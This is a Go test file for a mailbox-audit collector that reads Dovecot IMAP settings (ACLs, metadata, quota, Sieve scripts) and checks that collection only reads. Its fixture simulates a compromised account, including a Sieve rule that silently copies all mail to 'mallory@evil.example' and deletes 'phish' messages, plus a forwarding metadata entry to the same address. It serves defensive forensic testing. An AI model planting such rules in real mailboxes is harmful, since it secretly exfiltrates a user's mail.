package imap

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mbaudit/mbaudit/collectors"
	"github.com/mbaudit/mbaudit/collectors/collectortest"
	"github.com/mbaudit/mbaudit/evidence"
	"github.com/mbaudit/mbaudit/evidence/settings"
	"github.com/mbaudit/mbaudit/internal/imapwire"
	"github.com/mbaudit/mbaudit/internal/secret"
	"github.com/mbaudit/mbaudit/internal/seedmail"
	"github.com/mbaudit/mbaudit/internal/servertest"
)

// hostileName is a mailbox with all that a name can trip over: quotes, a backslash, an ampersand, letters beyond ASCII.
const hostileName = `Été "x" & \y`

// intruder leaves in alice's account what somebody who stole it leaves there, by files and doveadm only.
func intruder(t *testing.T, d *servertest.DovecotServer) {
	t.Helper()
	alice, bob, carol := d.Users[0], d.Users[1], d.Users[2]
	home := filepath.Dir(d.MailDir(alice))
	for name, script := range map[string]string{
		"sieve/roundcube.sieve": "require [\"copy\"];\nredirect :copy \"mallory@evil.example\";\nif header :contains \"subject\" \"phish\" { discard; }\n",
		"sieve/holiday.sieve":   "require [\"vacation\"];\nvacation \"gone\";\n",
	} {
		if err := os.WriteFile(filepath.Join(home, name), []byte(script), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("sieve/roundcube.sieve", filepath.Join(home, ".dovecot.sieve")); err != nil {
		t.Fatal(err)
	}
	d.Seed(t, alice, seedmail.Spec{Seed: 21, Messages: seeded})

	d.Doveadm(t, "mailbox", "create", "-u", alice, "-s", hostileName, "Quiet")
	d.Doveadm(t, "mailbox", "unsubscribe", "-u", alice, "Quiet")
	d.Doveadm(t, "mailbox", "create", "-u", carol, "Team")
	d.Doveadm(t, "acl", "set", "-u", alice, "INBOX", "user="+bob, "lookup", "read", "write-seen")
	d.Doveadm(t, "acl", "set", "-u", alice, hostileName, "anyone", "lookup", "read")
	d.Doveadm(t, "acl", "set", "-u", carol, "Team", "user="+alice, "lookup", "read", "admin")
	denied := filepath.Join(d.MailDir(alice), ".Quiet", "dovecot-acl")
	if err := os.WriteFile(denied, []byte("user="+carol+" lrw\n-user="+carol+" w\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, m := range []struct{ mailbox, entry, value string }{
		{"", "/private/vendor/webmail/forward", "mallory@evil.example"},
		{"", "/shared/vendor/webmail/notice", "moved"},
		{"INBOX", "/private/comment", "my own \"comment\"\r\nin two lines"},
		{"INBOX", "/shared/comment", "for all"},
		{hostileName, "/private/vendor/webmail/long", strings.Repeat("0123456789", 10_000)},
	} {
		args := []string{"mailbox", "metadata", "set", "-u", alice}
		if m.mailbox == "" {
			args = append(args, "-s")
		}
		d.Doveadm(t, append(args, m.mailbox, m.entry, m.value)...)
	}
	used, err := strconv.Atoi(quotaOf(t, d, alice)["STORAGE"][0])
	if err != nil {
		t.Fatal(err)
	}
	limitQuota(t, d, alice, used*100/95)
}

// quotaOf is what doveadm says of the quota: usage and limit by resource.
func quotaOf(t *testing.T, d *servertest.DovecotServer, user string) map[string][]string {
	t.Helper()
	quota := map[string][]string{}
	for line := range strings.Lines(d.Doveadm(t, "-f", "tab", "quota", "get", "-u", user)) {
		if f := strings.Split(strings.TrimSpace(line), "\t"); len(f) == 5 && f[1] != "Type" {
			quota[f[1]] = f[2:4]
		}
	}
	return quota
}

// limitQuota gives a user another limit, in KiB.
func limitQuota(t *testing.T, d *servertest.DovecotServer, user string, limit int) {
	t.Helper()
	path := filepath.Join(d.Dir, "users")
	users, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	line := user + ":{PLAIN}" + d.Password + "::::::"
	changed := strings.Replace(string(users), line+"\n", fmt.Sprintf("%suserdb_quota_rule=*:storage=%dk\n", line, limit), 1)
	if changed == string(users) {
		t.Fatalf("no line %q in\n%s", line, users)
	}
	if err := os.WriteFile(path, []byte(changed), 0o644); err != nil {
		t.Fatal(err)
	}
	// Dovecot looks at the file once a second at most.
	for deadline := time.Now().Add(time.Minute); !strings.Contains(d.Doveadm(t, "user", user), "quota_rule"); {
		if time.Now().After(deadline) {
			t.Fatal("Dovecot does not take the new limit")
		}
	}
}

// documents are the documents of settings in a sink, by kind; each must point at bytes that are there.
func documents(t testing.TB, sink *collectortest.Sink) map[string]*settings.Document {
	t.Helper()
	kept := map[string][]byte{}
	docs := map[string]*settings.Document{}
	for _, k := range sink.Kept() {
		kept[k.Resource+"\x00"+k.Item] = k.Body
		if k.MediaType != settings.MediaType {
			continue
		}
		doc, err := settings.Parse(k.Body)
		if err != nil {
			t.Fatalf("%s: %v", k.Name, err)
		}
		docs[doc.Kind] = doc
	}
	for kind, doc := range docs {
		for _, s := range doc.Sources {
			if sum := evidence.Digest(sha256.Sum256(kept[s.Resource+"\x00"+s.Item])); sum != s.SHA256 {
				t.Errorf("%s.json is read from %s %q with SHA-256 %s, and the exhibit has %s", kind, s.Resource, s.Item, s.SHA256, sum)
			}
		}
		for _, a := range answersOf(doc) {
			source := doc.Sources[a.Source]
			raw := kept[source.Resource+"\x00"+source.Item]
			if a.Off+a.Len > int64(len(raw)) || !bytes.HasSuffix(raw[:a.Off+a.Len], []byte("\n")) ||
				!strings.Contains(lastLine(raw[a.Off:a.Off+a.Len]), " "+a.Status+" ") {
				t.Errorf("%s.json: the answer to %s is not at %d", kind, a.Command, a.Off)
			}
		}
	}
	return docs
}

func lastLine(b []byte) string {
	b = bytes.TrimSuffix(b, []byte("\n"))
	return string(b[bytes.LastIndexByte(b, '\n')+1:])
}

func answersOf(d *settings.Document) []settings.Answer {
	var all []settings.Answer
	for _, r := range d.Rights {
		all = append(all, r.Answers...)
	}
	for _, a := range d.Annotations {
		all = append(all, a.Answer)
	}
	for _, r := range d.Roots {
		all = append(all, r.Answers...)
	}
	for _, o := range d.Odd {
		all = append(all, o.Answer)
	}
	return all
}

// An artefact is one thing that the intruder left, as the bundle tells it and as doveadm does.
type artefact struct{ name, ours, theirs string }

func TestDovecotSettings(t *testing.T) {
	d := servertest.Dovecot(t)
	intruder(t, d)
	alice := d.Users[0]
	before := dovecotSnapshot(t, d, alice) + filesSnapshot(t, d)
	sink := &collectortest.Sink{}
	// The scope names one folder only: rights are read of all.
	scope := collectors.Scope{Account: alice, Messages: collectors.MessagesRaw, Folders: []string{"INBOX"}}
	cfg := dovecotConfig(d)
	cfg.Sieve = "sieve://" + net.JoinHostPort(d.Host, strconv.Itoa(d.SievePort))
	if err := mustNew(t, cfg).Collect(t.Context(), scope, sink); err != nil {
		t.Fatal(err)
	}
	if after := dovecotSnapshot(t, d, alice) + filesSnapshot(t, d); after != before {
		t.Errorf("the source changed.\nbefore:\n%s\nafter:\n%s", before, after)
	}
	collectortest.CheckSink(t, sink)
	if gaps := sink.Gaps(); len(gaps) > 0 {
		t.Errorf("gaps: %+v", gaps)
	}
	docs := documents(t, sink)
	for _, kind := range []string{settings.ACL, settings.Metadata, settings.Quota, settings.Mailboxes} {
		if docs[kind] == nil {
			t.Fatalf("there is no document of %s", kind)
		}
		if len(docs[kind].Odd) > 0 {
			t.Errorf("%s: odd answers of a server that has none: %+v", kind, docs[kind].Odd)
		}
	}
	rows := slices.Concat(sieveRows(t, d, sink), aclRows(t, d, docs[settings.ACL]), metadataRows(t, d, docs[settings.Metadata]),
		quotaRows(t, d, docs[settings.Quota]), mailboxRows(t, d, docs[settings.Mailboxes]))
	for _, r := range rows {
		verdict := "equal"
		if r.ours != r.theirs {
			verdict = "DIFFERENT"
			t.Errorf("%s:\n  bundle  %.600q\n  doveadm %.600q", r.name, r.ours, r.theirs)
		}
		t.Logf("%-9s | %-42s | %.90s", verdict, r.name, r.ours)
	}
	if len(rows) < 17 {
		t.Errorf("only %d artefacts", len(rows))
	}

	commandsRead(t, d)

	t.Run("master user", func(t *testing.T) {
		cfg := dovecotConfig(d)
		cfg.Password, cfg.MasterUser, cfg.MasterPassword = secret.String{}, d.MasterUser, secret.New(d.MasterPassword)
		again := &collectortest.Sink{}
		if err := mustNew(t, cfg).Collect(t.Context(), scope, again); err != nil {
			t.Fatal(err)
		}
		for kind, doc := range documents(t, again) {
			if diff := settings.Compare(docs[kind], doc); len(diff) > 0 || !doc.Master {
				t.Errorf("%s: a master user sees something else: %+v", kind, diff)
			}
		}
		if len(again.Gaps()) > 0 {
			t.Errorf("gaps: %+v", again.Gaps())
		}
	})
}

// commandsRead checks, by Dovecot's own log of commands, that all questions came and that each is one that reads.
func commandsRead(t *testing.T, d *servertest.DovecotServer) {
	t.Helper()
	servertest.WaitForLine(t, d.EventLog, `"cmd_name":"LOGOUT"`)
	log, err := os.ReadFile(d.EventLog)
	if err != nil {
		t.Fatal(err)
	}
	sent := map[string]int{}
	for line := range strings.Lines(string(log)) {
		var event struct {
			Fields struct {
				Name string `json:"cmd_name"`
			}
		}
		if err := json.Unmarshal([]byte(line), &event); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		sent[event.Fields.Name]++
		if err := imapwire.Check(imapwire.NewCommand(event.Fields.Name).Atom("1").Atom("UID")); err != nil {
			t.Errorf("a command came that does not only read: %v", err)
		}
	}
	for _, name := range []string{"NAMESPACE", "LIST", "MYRIGHTS", "GETACL", "LISTRIGHTS", "GETMETADATA", "GETQUOTAROOT"} {
		if sent[name] == 0 {
			t.Errorf("Dovecot logged no %s: %v", name, sent)
		}
	}
	t.Logf("commands that Dovecot logged: %v", sent)
}

// filesSnapshot is the digest of every file of every user but Dovecot's own indexes, caches and lists of UIDs.
func filesSnapshot(t *testing.T, d *servertest.DovecotServer) string {
	t.Helper()
	var b strings.Builder
	for _, user := range d.Users {
		err := filepath.WalkDir(filepath.Dir(d.MailDir(user)), func(path string, e fs.DirEntry, err error) error {
			name := e.Name()
			if err != nil || !e.Type().IsRegular() || strings.HasPrefix(name, "dovecot.") && strings.Contains(name, "index") ||
				name == "dovecot-uidlist" || name == "dovecot-acl-list" {
				return err
			}
			data, err := os.ReadFile(path)
			fmt.Fprintf(&b, "%x %s\n", sha256.Sum256(data), path)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}

// letters are the rights of RFC 4314 by Dovecot's names for them; doveadm writes a dash before one that is denied.
func letters(t *testing.T, words string) (granted, denied string) {
	t.Helper()
	names := map[string]string{
		"lookup": "l", "read": "r", "write": "w", "write-seen": "s", "write-deleted": "t", "insert": "i", "post": "p",
		"expunge": "e", "create": "k", "delete": "x", "admin": "a",
	}
	for word := range strings.FieldsSeq(words) {
		name, negative := strings.CutPrefix(word, "-")
		switch {
		case names[name] == "":
			t.Fatalf("doveadm names a right %q", word)
		case negative:
			denied += names[name]
		default:
			granted += names[name]
		}
	}
	return inOrder(granted), inOrder(denied)
}

// inOrder sorts rights and leaves out c and d, which RFC 4314 section 2.1.1 has beside the rights that they stand for.
func inOrder(rights string) string {
	all := strings.Split(strings.NewReplacer("c", "", "d", "").Replace(rights), "")
	slices.Sort(all)
	return strings.Join(all, "")
}

func aclRows(t *testing.T, d *servertest.DovecotServer, doc *settings.Document) []artefact {
	t.Helper()
	alice := d.Users[0]
	var rows []artefact
	for _, r := range doc.Rights {
		owner, mailbox := alice, r.Name
		if rest, ok := strings.CutPrefix(r.Name, "shared/"); ok {
			owner, mailbox, _ = strings.Cut(rest, "/")
		}
		lists := map[string]string{}
		for line := range strings.Lines(d.Doveadm(t, "-f", "tab", "acl", "get", "-u", owner, "--", mailbox)) {
			if f := strings.Split(strings.TrimSpace(line), "\t"); len(f) == 3 && f[0] != "ID" {
				id := strings.Replace(f[0], "user=", "", 1)
				granted, denied := letters(t, f[2])
				lists[id] = granted
				if denied != "" {
					lists["-"+id] = denied
				}
			}
		}
		if r.Of == personal {
			for _, e := range r.Entries {
				if id := string(e.Identifier); id != alice {
					rows = append(rows, artefact{"ACL " + r.Name + " " + id, id + " " + inOrder(string(e.Rights)), id + " " + lists[id]})
					delete(lists, id)
				}
			}
			for id, rights := range lists {
				rows = append(rows, artefact{"ACL " + r.Name + " " + id, "(not in the bundle)", id + " " + rights})
			}
			continue
		}
		if r.Mine == nil {
			t.Errorf("%s: rights not known", r.Name)
			continue
		}
		rows = append(rows, artefact{"sees " + r.Name, inOrder(*r.Mine), lists[alice]})
		if strings.Contains(*r.Mine, "a") != (r.Entries != nil) {
			t.Errorf("%s: rights %s, and the list is %v", r.Name, *r.Mine, r.Entries)
		}
		for _, e := range r.Entries {
			if len(e.May) == 0 {
				t.Errorf("%s: LISTRIGHTS said nothing of %s", r.Name, e.Identifier)
			}
		}
	}
	return rows
}

func metadataRows(t *testing.T, d *servertest.DovecotServer, doc *settings.Document) []artefact {
	t.Helper()
	alice := d.Users[0]
	ours := map[string]string{}
	mailboxes := map[string]bool{"": true, "INBOX": true, hostileName: true, "Quiet": true}
	for _, a := range doc.Annotations {
		if a.SHA256 != nil {
			ours[a.Name+" "+string(a.Entry)] = fmt.Sprintf("%d bytes, SHA-256 %s", a.Size, a.SHA256)
			if a.Value != nil {
				ours[a.Name+" "+string(a.Entry)] = fmt.Sprintf("%q", *a.Value)
			}
		}
		mailboxes[a.Name] = true
	}
	theirs := map[string]string{}
	for mailbox := range mailboxes {
		server := []string{}
		if mailbox == "" {
			server = []string{"-s"}
		}
		list := append(append([]string{"mailbox", "metadata", "list", "-u", alice, "-p"}, server...), "--", mailbox)
		keys := strings.Split(d.Doveadm(t, list...), "\n")
		for _, a := range doc.Annotations {
			if a.Name == mailbox { // doveadm does not list the server's shared entries, and gets them
				keys = append(keys, string(a.Entry))
			}
		}
		for _, key := range keys {
			if key == "" || strings.Contains(key, "/vendor.dovecot/pvt/server/") {
				continue // Dovecot keeps the server's entries among INBOX's
			}
			get := append(append([]string{"-f", "json", "mailbox", "metadata", "get", "-u", alice}, server...), "--", mailbox, key)
			var values []struct{ Value string }
			if err := json.Unmarshal([]byte(d.Doveadm(t, get...)), &values); err != nil {
				t.Fatal(err)
			}
			if len(values) > 0 && values[0].Value != "" {
				value := values[0].Value
				theirs[mailbox+" "+key] = fmt.Sprintf("%q", value)
				if len(value) > inlineValue {
					theirs[mailbox+" "+key] = fmt.Sprintf("%d bytes, SHA-256 %x", len(value), sha256.Sum256([]byte(value)))
				}
			}
		}
	}
	var rows []artefact
	for _, key := range slices.Sorted(maps.Keys(theirs)) {
		rows = append(rows, artefact{"METADATA " + strings.TrimSpace(key), ours[key], theirs[key]})
		delete(ours, key)
	}
	for key, value := range ours {
		rows = append(rows, artefact{"METADATA " + key, value, "(doveadm does not have it)"})
	}
	return rows
}

// sieveRows compares each script, and which of them is at work.
func sieveRows(t *testing.T, d *servertest.DovecotServer, sink *collectortest.Sink) []artefact {
	t.Helper()
	alice := d.Users[0]
	var rows []artefact
	list := ""
	for _, k := range sink.Resource("sieve") {
		name := k.Attrs["script"]
		theirs := strings.TrimPrefix(d.Doveadm(t, "sieve", "get", "-u", alice, name), "sieve script:\n")
		rows = append(rows, artefact{"Sieve script " + name, string(k.Body), theirs})
		list += name
		if k.Attrs["active"] == "true" {
			list += " ACTIVE"
		}
		list += "\n"
	}
	return append(rows, artefact{"Sieve scripts", sortedLines(list), sortedLines(d.Doveadm(t, "sieve", "list", "-u", alice))})
}

func sortedLines(text string) string {
	lines := strings.Split(strings.TrimSpace(text), "\n")
	slices.Sort(lines)
	return strings.Join(lines, ", ")
}

func quotaRows(t *testing.T, d *servertest.DovecotServer, doc *settings.Document) []artefact {
	t.Helper()
	theirs := quotaOf(t, d, d.Users[0])["STORAGE"]
	if len(doc.Roots) != 1 || len(doc.Roots[0].Resources) != 1 || len(theirs) != 2 {
		t.Fatalf("roots: %+v, doveadm: %v", doc.Roots, theirs)
	}
	r := doc.Roots[0].Resources[0]
	if r.Percent() < 90 || r.Percent() > 100 {
		t.Errorf("the quota is %d %% full, and it was made to be nearly full", r.Percent())
	}
	if doc.Roots[0].Mailboxes < 5 {
		t.Errorf("%d mailboxes have the root", doc.Roots[0].Mailboxes)
	}
	return []artefact{{"quota " + string(doc.Roots[0].Name), fmt.Sprintf("STORAGE %d of %d", r.Usage, r.Limit), "STORAGE " + theirs[0] + " of " + theirs[1]}}
}

func mailboxRows(t *testing.T, d *servertest.DovecotServer, doc *settings.Document) []artefact {
	t.Helper()
	alice := d.Users[0]
	list := func(args ...string) string {
		names := strings.Split(strings.TrimSuffix(d.Doveadm(t, append([]string{"mailbox", "list", "-u", alice}, args...)...), "\n"), "\n")
		slices.Sort(names)
		return strings.Join(names, ", ")
	}
	var all, subscribed, sent []string
	for _, b := range doc.Boxes {
		all = append(all, b.Name)
		if b.Subscribed == nil {
			t.Errorf("%s: subscriptions not known", b.Name)
		} else if *b.Subscribed {
			subscribed = append(subscribed, b.Name)
		}
		if slices.Equal(b.SpecialUse, []string{`\Sent`}) {
			sent = append(sent, b.Name)
		}
	}
	slices.Sort(all)
	slices.Sort(subscribed)
	return []artefact{
		{"mailboxes", strings.Join(all, ", "), list()},
		{"subscriptions", strings.Join(subscribed, ", "), list("-s")},
		{"special use \\Sent", strings.Join(sent, ", "), "Sent"},
	}
}
